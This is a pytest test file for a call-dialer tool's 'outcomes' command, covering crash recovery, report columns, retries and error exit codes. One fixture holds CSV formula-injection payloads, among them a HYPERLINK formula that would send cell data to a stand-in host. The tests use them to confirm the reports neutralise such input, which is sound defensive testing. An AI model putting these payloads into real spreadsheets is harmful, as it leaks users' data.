"""`dialer outcomes` and what follows from it: every call's fate in the sheet; kills, faults, stops."""

from __future__ import annotations

import csv
import json
import shutil
import signal
import sqlite3
import subprocess
from collections import Counter
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest

from dialer.call_words import Told
from dialer.fates import wanted, write_fate
from dialer.ledger import Ledger
from dialer.loads import find_campaign
from dialer.own_columns import FATE_COLUMNS, RESULT_COLUMNS
from dialer.sandbox.child import SandboxProcess
from dialer.sandbox.fate import fate_of
from tests.command import Finished, command_line, environment
from tests.desk import Desk, Sheet, fictional_numbers, finish, until

PEOPLE = 30
READS_FAIL = ("GET/calls=503@0.16", "GET/calls=drop@0.17")  # of a hundred reads about thirty
FAILS, IS_BOOKED = "+12015550193", "+12015550194"  # what becomes of these is the sandbox's promise


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    """A desk whose calls last at most a second."""
    with SandboxProcess(":memory:", queued_seconds=0.1, talk_seconds=1.0) as sandbox:
        yield Desk(tmp_path_factory.mktemp("desk"), sandbox, fictional_numbers())


@pytest.fixture(scope="module")
def slow_desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    """A desk whose calls go on and on."""
    with SandboxProcess(":memory:", queued_seconds=0.0, talk_seconds=3600.0) as sandbox:
        yield Desk(tmp_path_factory.mktemp("slow-desk"), sandbox, fictional_numbers())


def outcomes(desk: Desk, sheet: Sheet, *options: str) -> Finished:
    """`dialer outcomes CAMPAIGN`, as fast as the sandbox can answer."""
    return desk.dialer("outcomes", sheet.campaign, *desk.api, "--get-rate", "200/s", *options)


def follow(desk: Desk, sheet: Sheet, *options: str) -> subprocess.Popen[str]:
    """The same, left to itself."""
    return subprocess.Popen(
        command_line("outcomes", sheet.campaign, *desk.api, *options),
        cwd=desk.folder,
        env=environment(desk.folder, desk.environment()),
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


def heard_of(desk: Desk, sheet: Sheet, *, in_full: bool = False) -> int:
    """Of how many calls of a sheet the ledger knows something, or all."""
    with closing(sqlite3.connect(f"file:{desk.ledger}?mode=ro", uri=True)) as connection:
        question = (
            "SELECT count(*) FROM calls AS c JOIN campaigns AS p ON p.campaign_id = c.campaign_id"
            " WHERE p.name = ? AND (c.detailed OR NOT ?)"
        )
        return int(connection.execute(question, (sheet.campaign, in_full)).fetchone()[0])


# ------------------------------------------------------------------- a kill, and reads of which 30 % fail


@dataclass
class Killed:
    """What was known when `outcomes` was killed, and how the same command ended."""

    sheet: Sheet
    known: int
    again: Finished


@pytest.fixture(scope="module")
def killed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Killed]:
    with SandboxProcess(":memory:", faults=READS_FAIL, queued_seconds=0.1, talk_seconds=2.0) as sandbox:
        desk = Desk(tmp_path_factory.mktemp("faulty-desk"), sandbox, fictional_numbers())
        sheet = desk.sheet(PEOPLE)
        desk.run(sheet)
        process = follow(desk, sheet, "--get-rate", "15/s")
        until(lambda: heard_of(desk, sheet, in_full=True) >= 5)
        process.send_signal(signal.SIGKILL)
        finish(process)
        known = heard_of(desk, sheet, in_full=True)
        yield Killed(sheet, known, desk.dialer("outcomes", sheet.campaign, *desk.api, "--get-rate", "50/s"))


def test_the_kill_came_in_the_middle(killed: Killed) -> None:
    assert 5 <= killed.known < PEOPLE


def test_the_same_command_comes_to_the_end(killed: Killed) -> None:
    assert (killed.again.returncode, killed.again.stdout.splitlines()[-1]) == (0, "30 of 30 calls ended.")


def test_every_calls_fate_is_in_the_sheet(killed: Killed) -> None:
    told = [
        (
            row["call_status"],
            row["appointment_booked"],
            row["lead_qualification"],
            row["call_intent"],
            row["summary"] != "",
            row["cost"] != "",
        )
        for row in killed.sheet.results()
    ]
    fates = [fate_of(number) for number in killed.sheet.numbers]
    assert told == [
        (
            fate.ending,
            "true" if fate.appointment_booked else "false",
            fate.qualification or "",
            fate.intent or "",
            fate.ending == "completed",
            True,
        )
        for fate in fates
    ]


def test_no_status_was_changed_by_it(killed: Killed) -> None:
    assert Counter(killed.sheet.statuses()) == {"queued": PEOPLE}


# ------------------------------------------------------------------------------------ the columns


@pytest.fixture(scope="module")
def followed(desk: Desk) -> tuple[Sheet, Finished]:
    """A run that followed its calls: the first failed, the second led to an appointment."""
    sheet = desk.sheet([FAILS, IS_BOOKED], rows=["nobody,Nora"])
    return sheet, desk.run(sheet, "--follow", "--json")


def test_a_run_that_follows_ends_with_every_fate_in_the_sheet(followed: tuple[Sheet, Finished]) -> None:
    sheet, finished = followed

    assert finished.returncode == 0
    assert [row["call_status"] for row in sheet.results()] == ["failed", "completed", ""]


def test_the_columns_stand_behind_the_eight(followed: tuple[Sheet, Finished]) -> None:
    header = followed[0].report.read_text(encoding="utf-8").splitlines()[0].split(",")

    assert header == ["phone", "first_name", *RESULT_COLUMNS, *FATE_COLUMNS[:-1]]


def test_a_row_tells_what_became_of_its_call(followed: tuple[Sheet, Finished]) -> None:
    row = followed[0].results()[1]

    assert [row[name] for name in FATE_COLUMNS[:-2]] == [
        *("completed", "1", "true", "hot", "quote_request"),
        *("The lead is hot. An appointment was booked.", "0.002"),
    ]


def test_transcripts_come_on_request(desk: Desk, followed: tuple[Sheet, Finished]) -> None:
    sheet, _ = followed
    assert outcomes(desk, sheet, "--transcript").returncode == 0

    told = [row["transcript"].splitlines()[-1:] for row in sheet.results()]
    assert told == [[], ["Customer: Yes, go ahead."], []]


@pytest.mark.usefixtures("followed")
def test_a_report_fed_back_is_updated_in_place(desk: Desk, followed: tuple[Sheet, Finished]) -> None:
    sheet, _ = followed
    before = sheet.report.read_bytes()
    finished = desk.dialer("run", sheet.report, *desk.call_options("--json"))

    assert (finished.json["called_now"], sheet.report.read_bytes()) == (0, before)


def test_outcomes_come_into_a_report_that_was_fed_back_before(desk: Desk) -> None:
    """And a column that somebody added beside ours meanwhile stays where it is."""
    sheet = desk.sheet(2)
    desk.run(sheet)
    lines = sheet.report.read_text(encoding="utf-8").splitlines()
    commented = [f"{line},{extra}" for line, extra in zip(lines, ["summary", "mine", ""], strict=True)]
    sheet.report.write_text("\n".join(commented) + "\n", encoding="utf-8")
    desk.dialer("run", sheet.report, *desk.call_options())

    assert outcomes(desk, sheet).returncode == 0
    with sheet.report.open(newline="", encoding="utf-8") as file:
        header, first, _ = list(csv.reader(file))
    assert header[-9:] == ["summary", *FATE_COLUMNS[:5], "dialer_summary", *FATE_COLUMNS[6:8]]
    assert (first[header.index("summary")], first[header.index("call_status")] != "") == ("mine", True)
    desk.dialer("run", sheet.report, *desk.call_options())
    assert sheet.report.read_text(encoding="utf-8").splitlines()[0].split(",") == header


def test_a_workbook_gets_numbers_and_booleans(desk: Desk) -> None:
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    for row in (("Mobile", "Name"), ("+12025550193", "Ann Example"), ("+12025550194", "Bo Example")):
        sheet.append(row)
    path = desk.folder / "people.xlsx"
    book.save(path)
    desk.dialer("run", path, *desk.call_options("--follow"))

    report = openpyxl.load_workbook(desk.folder / "reports" / "people.results.xlsx").worksheets[0]
    header = [cell.value for cell in report[1]]
    rows = [
        [row[header.index(name)].value for name in FATE_COLUMNS[:7]] for row in report.iter_rows(min_row=2)
    ]
    assert rows == [
        ["failed", 0, False, None, None, None, 0],
        [
            *("completed", 1, True, "hot", "quote_request"),
            *("The lead is hot. An appointment was booked.", 0.002),
        ],
    ]


HOSTILE = Told(
    call_status="=1+1",
    ended=True,
    lead_qualification="+cmd",
    call_intent="-2+3",
    summary='=HYPERLINK("http://x.example/?"&A1)',
    recording_url="@SUM(1)",
    transcript="=1+1\n=2+2",
)


def told_by_a_hostile_api(desk: Desk, path: Path) -> Path:
    """The report of a sheet of one person, about whose call the API says what could be formulas."""
    desk.dialer("run", path, *desk.call_options())
    ledger = Ledger(desk.ledger)
    with ledger.transaction() as connection:
        campaign = find_campaign(connection, path.stem)
        assert campaign is not None
        [call] = wanted(connection, campaign.campaign_id, transcripts=True)
        now = ledger.clock()
        write_fate(connection, campaign.campaign_id, call.call_id, HOSTILE, detailed=True, now=now)
    ledger.close()
    assert desk.dialer("report", path.stem, *desk.api).returncode == 0
    return desk.folder / "reports" / f"{path.stem}.results{path.suffix}"


def test_what_the_api_says_is_never_a_formula_in_a_csv(desk: Desk) -> None:
    report = told_by_a_hostile_api(desk, desk.sheet(1).path)

    with report.open(newline="", encoding="utf-8") as file:
        [row] = csv.DictReader(file)
    assert [row[name] for name in FATE_COLUMNS] == [
        *("'=1+1", "", "", "'+cmd", "'-2+3", '\'=HYPERLINK("http://x.example/?"&A1)', "", "'@SUM(1)"),
        "'=1+1\n=2+2",
    ]


def test_what_the_api_says_is_never_a_formula_in_a_workbook(desk: Desk) -> None:
    book = openpyxl.Workbook()
    for row in (("Mobile", "Name"), (desk.number(), "Ann Example")):
        book.worksheets[0].append(row)
    path = desk.folder / "hostile.xlsx"
    book.save(path)
    report = told_by_a_hostile_api(desk, path)

    cells = openpyxl.load_workbook(report).worksheets[0][2][-len(FATE_COLUMNS) :]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    assert [cell.value for cell in cells] == [
        *("=1+1", None, None, "+cmd", "-2+3", '=HYPERLINK("http://x.example/?"&A1)', None, "@SUM(1)"),
        "=1+1\n=2+2",
    ]


# ------------------------------------------------------------------------------------ a second round


@pytest.fixture(scope="module")
def second_round(desk: Desk) -> tuple[Sheet, Finished, Finished]:
    """A dry run and a run of `retry --call-status failed` on two people, of whom one's call failed."""
    sheet = desk.sheet(["+12035550193", "+12035550194"])
    desk.run(sheet, "--follow")
    rehearsed = desk.retry(sheet, "--call-status", "FAILED", "--dry-run")
    return sheet, rehearsed, desk.retry(sheet, "--call-status", "FAILED")


def test_a_second_round_calls_those_whose_call_ended_so(
    desk: Desk, second_round: tuple[Sheet, Finished, Finished]
) -> None:
    sheet, _, _ = second_round

    assert [desk.created(number)[number] for number in sheet.numbers] == [2, 1]


def test_the_plan_says_how_many_are_called_once_more(second_round: tuple[Sheet, Finished, Finished]) -> None:
    said = [" ".join(line.split()) for line in second_round[1].stderr.splitlines()]

    at = said.index("1 would be called now")
    assert said[at + 1 : at + 3] == [
        "1 of all called before, and their call ended with failed: once more (--call-status)",
        "1 called already",
    ]


def test_the_row_shows_the_newest_call_and_the_count_of_attempts(
    second_round: tuple[Sheet, Finished, Finished],
) -> None:
    rows = second_round[0].results()

    assert [row["attempts"] for row in rows] == ["2", "1"]
    assert [row["call_status"] for row in rows] == ["", "completed"]


def test_words_are_needed_for_a_second_round(desk: Desk, followed: tuple[Sheet, Finished]) -> None:
    finished = desk.retry(followed[0], "--call-status", ",")

    assert (finished.returncode, finished.stderr) == (
        2,
        (
            "dialer: Invalid value for '--call-status': name the words of the API's call_status, as "
            "failed,no-answer. Try dialer retry --help.\n"
        ),
    )


# ------------------------------------------------------------------------------------ calls that go on


@pytest.fixture(scope="module")
def going_on(slow_desk: Desk) -> Sheet:
    """Three people whose calls do not end."""
    sheet = slow_desk.sheet(3)
    slow_desk.run(sheet)
    return sheet


@pytest.fixture(scope="module")
def looked_once(slow_desk: Desk, going_on: Sheet) -> Finished:
    return outcomes(slow_desk, going_on, "--give-up-after", "0s")


def test_who_looks_once_is_told_to_come_back(looked_once: Finished) -> None:
    assert (looked_once.returncode, looked_once.stdout.splitlines()) == (
        75,
        [
            "  in-progress  3",
            "0 of 3 calls ended.",
            "3 calls had not ended by the last look, and may still: the same command looks again.",
        ],
    )


@pytest.mark.usefixtures("looked_once")
def test_a_call_that_goes_on_is_not_shown_as_ended(going_on: Sheet) -> None:
    assert [(row["call_status"], row["duration_seconds"]) for row in going_on.results()] == [
        ("in-progress", "")
    ] * 3


@pytest.mark.usefixtures("looked_once")
def test_a_call_that_has_not_ended_is_stale_in_the_ledger(slow_desk: Desk) -> None:
    with closing(sqlite3.connect(f"file:{slow_desk.ledger}?mode=ro", uri=True)) as connection:
        assert connection.execute("SELECT DISTINCT ended, stale FROM calls").fetchall() == [(0, 1)]


@pytest.mark.parametrize(
    ("number", "code", "word"), [(signal.SIGINT, 130, "Interrupted"), (signal.SIGTERM, 143, "Terminated")]
)
def test_a_stop_is_one_sentence(
    slow_desk: Desk, going_on: Sheet, number: signal.Signals, code: int, word: str
) -> None:
    process = follow(slow_desk, going_on)
    assert process.stderr is not None
    assert process.stderr.readline() == "Waiting for 3 calls to end.\n"
    process.send_signal(number)
    finished = finish(process)

    assert (finished.returncode, finished.stderr.strip()) == (
        code,
        f"dialer: {word}: nothing is lost, the same command goes on.",
    )


@pytest.mark.usefixtures("going_on")  # so that there is a ledger to look into
def test_a_run_that_is_interrupted_while_it_follows_still_writes_its_report(slow_desk: Desk) -> None:
    sheet = slow_desk.sheet(2)
    process = slow_desk.start(sheet, "--follow", "-q")
    until(lambda: heard_of(slow_desk, sheet) == 2)
    process.send_signal(signal.SIGINT)
    finished = finish(process)

    assert (finished.returncode, sheet.statuses()) == (130, ["queued", "queued"])
    assert "Interrupted: `dialer outcomes` goes on asking what became of the calls." in finished.stderr


# ------------------------------------------------------------------------------------ what stands in the way


def test_there_must_be_such_a_campaign(desk: Desk, followed: tuple[Sheet, Finished]) -> None:  # noqa: ARG001
    finished = desk.dialer("outcomes", "spring", *desk.api)

    assert (finished.returncode, finished.stderr) == (
        2,
        f"dialer: There is no campaign 'spring' in {desk.ledger}: `dialer status` lists them.\n",
    )


def test_without_a_ledger_there_is_no_campaign(desk: Desk) -> None:
    ledger = desk.folder / "nowhere.sqlite3"
    finished = desk.dialer("outcomes", "spring", *desk.api, "--ledger", ledger)

    assert (finished.returncode, ledger.exists()) == (2, False)


def test_a_campaign_without_calls_needs_no_answer(desk: Desk) -> None:
    sheet = desk.sheet(0, rows=["nobody,Nora"])
    desk.run(sheet)

    finished = outcomes(desk, sheet)
    assert (finished.returncode, finished.stdout) == (0, "No call was made in this campaign.\n")


def test_an_api_out_of_reach_is_69(slow_desk: Desk, going_on: Sheet) -> None:
    finished = slow_desk.dialer(
        *("outcomes", going_on.campaign, "--base-url", "http://127.0.0.1:9/v1"),
        *("--ledger", slow_desk.ledger, "--give-up-after", "0s", "--json"),
    )

    error = json.loads(finished.stdout)["error"]
    assert (finished.returncode, error["code"], error["exit_code"]) == (69, "unreachable", 69)


def test_a_key_that_is_not_known_is_77(slow_desk: Desk, going_on: Sheet) -> None:
    wrong = {"VOZAGENT_API_KEY": "sk_wrong"}
    finished = slow_desk.dialer("outcomes", going_on.campaign, *slow_desk.api, env=wrong)

    assert (finished.returncode, finished.stderr) == (
        77,
        (
            "dialer: The API answered 401 when it was asked for calls: set VOZAGENT_API_KEY to a valid key, "
            "then run the same command again.\n"
        ),
    )


def test_a_sheet_that_has_gone_loses_no_fate(desk: Desk) -> None:
    sheet = desk.sheet(1)
    desk.run(sheet)
    elsewhere = Path(shutil.move(sheet.path, desk.folder / "elsewhere.csv"))
    finished = outcomes(desk, sheet, "-q")
    shutil.move(elsewhere, sheet.path)

    assert finished.returncode == 1
    assert finished.stderr.startswith("The report could not be written (")
    desk.dialer("report", sheet.campaign, *desk.api)
    assert sheet.results()[0]["call_status"] == fate_of(sheet.numbers[0]).ending


def test_a_single_call_can_be_asked_for(desk: Desk) -> None:
    number = desk.number()
    desk.call(number)
    with closing(sqlite3.connect(f"file:{desk.ledger}?mode=ro", uri=True)) as connection:
        name = connection.execute("SELECT name FROM campaigns WHERE kind = 'call' ORDER BY 1").fetchone()[0]
    finished = desk.dialer("outcomes", name, *desk.api, "--json")

    said = finished.json
    assert (finished.returncode, said["ended"], said["report"]) == (0, 1, None)
